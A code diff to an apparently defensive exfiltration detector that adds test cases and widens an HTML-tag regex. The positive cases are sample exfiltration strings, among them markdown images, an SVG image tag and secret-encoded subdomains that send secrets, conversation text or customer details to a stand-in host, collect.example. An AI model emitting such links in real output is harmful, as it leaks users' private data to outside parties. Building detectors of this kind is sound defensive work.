@@ -65,6 +65,9 @@ export const exfiltration: SpanDetector = {
       [`[1]: https://collect.example/${secret('hex')}`, 'exfiltration/reference'],
       [`<img alt="x" src="https://collect.example/?q=${secret('base64')}">`, 'exfiltration/html'],
       [`background: url('https://collect.example/?q=${secret('hex')}')`, 'exfiltration/style'],
+      [`<image href="https://collect.example/a.svg?what=my+card+is+the+old+one"/>`, 'exfiltration/html'],
+      [`https://${secret('hex').slice(0, 20)}.${secret('hex').slice(20, 40)}.collect.example/`, 'exfiltration/address'],
+      ['https://{customer_name}.collect.example/', 'exfiltration/address'],
       ['![x](//collect.example/p?notes=my+account+number+is+the+old+one)', 'exfiltration/image'],
       ['![x](https://collect.example/p?data={conversation})', 'exfiltration/image'],
       ['[open](javascript:fetch(1))', 'exfiltration/script'],
@@ -83,6 +86,9 @@ export const exfiltration: SpanDetector = {
       '[search](https://search.example/?q=how+to+bake+a+good+bread)',
       '![build](https://img.example/badge/build-passing-green?style=flat&label=all+tests+pass)',
       'https://docs.example/en/latest/guide/how-to-write-a-detector.html#first-steps',
+      'https://deadbeef.cafe.example/ and https://abc123.def456.cdn.example/app.js',
+      'https://{region}.console.aws.example/ and https://<account>.blob.example/',
+      '[agent]: https://docs.example/api/http.html#http_class_http_agent',
       'see [JavaScript: the good parts](https://books.example/javascript)',
     ],
   },
@@ -225,6 +231,6 @@ function holderOf(before: string): Holder {
   )
     return { kind: 'html', loads: true };
   if (/\b(?:href|action|formaction|cite|ping)\s{0,3}=\s{0,3}["']?$/i.test(before))
-    return { kind: 'html', loads: /<link[^>]{0,300}$/i.test(before) };
+    return { kind: 'html', loads: /<(?:link|image|feimage|use|script|animate)\b[^>]{0,300}$/i.test(before) };
   return { kind: 'address', loads: false };
 }
